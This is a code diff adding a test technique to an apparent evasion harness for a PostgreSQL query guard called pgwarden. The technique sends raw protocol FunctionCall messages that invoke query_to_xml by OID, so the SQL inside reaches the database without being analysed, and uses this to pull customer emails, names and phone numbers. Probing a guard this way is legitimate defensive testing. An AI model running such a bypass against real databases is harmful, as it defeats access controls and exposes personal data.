@@ -1269,6 +1269,76 @@ def t_stash_function_in_where(ctx: Ctx) -> None:
     ctx.q(c, "SELECT k, e, n FROM scratch.rt2_st WHERE k > 0")
 
 
+def _fastpath_call(ctx: Ctx, conn: psycopg.Connection, oid: int, args: list[str]) -> str:
+    """Send one protocol-level FunctionCall ('F') message on an idle psycopg connection's
+    socket (libpq's PQfn, the fast-path interface) and read the answer up to ReadyForQuery.
+    Returns the text of everything received (result value and any error)."""
+    import socket
+    import struct
+
+    body = struct.pack("!I", oid) + struct.pack("!hh", 1, 0) + struct.pack("!h", len(args))
+    for a in args:
+        b = a.encode()
+        body += struct.pack("!i", len(b)) + b
+    body += struct.pack("!h", 0)
+    msg = b"F" + struct.pack("!I", len(body) + 4) + body
+    ctx.stmt += 1
+    ctx.out.statements += 1
+    s = socket.socket(fileno=__import__("os").dup(conn.pgconn.socket))
+    s.settimeout(HANG_SECONDS)
+    buf = b""
+    texts: list[str] = []
+    try:
+        s.sendall(msg)
+        while True:
+            while len(buf) < 5:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            n = struct.unpack("!I", buf[1:5])[0]
+            while len(buf) < 1 + n:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            kind, payload, buf = buf[0:1], buf[5 : 1 + n], buf[1 + n :]
+            text = payload.decode(errors="replace")
+            if kind == b"E":
+                fields = dict((f[:1], f[1:]) for f in text.split("\0") if f)
+                ctx.seen("error", text)
+                ctx.out.errors += 1
+                if fields.get("C") == "42501" and "pgwarden" in text:
+                    ctx.out.refused += 1
+                    ctx.last_refused = True
+                elif fields.get("C", "").startswith("XX"):
+                    ctx.out.internal_errors.append(text[:200])
+            elif kind == b"V":
+                ctx.seen("rows", text)
+            texts.append(text)
+            if kind == b"Z":
+                break
+    except (OSError, ConnectionError) as exc:
+        ctx.out.notes.append(f"fast-path call: {exc}")
+    finally:
+        s.close()
+    return "\n".join(texts)
+
+
+@technique("rows")
+def t_fastpath_function_call(ctx: Ctx) -> None:
+    """The protocol's FunctionCall message (libpq PQfn): query_to_xml(text, ...) called by OID,
+    no SQL statement for pgwarden to analyse."""
+    c = ctx.connect()
+    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
+    if not r:
+        return
+    _fastpath_call(ctx, c, int(r[0][0]), [
+        'SELECT "Email", "FullName" FROM crm.customers', "t", "f", ""])  # fmt: skip
+    _fastpath_call(ctx, c, int(r[0][0]), [
+        "SELECT phone FROM crm.customer_phones", "t", "f", ""])  # fmt: skip
+
+
 # -- the analyst: masked contact data ------------------------------------------------------
 
 
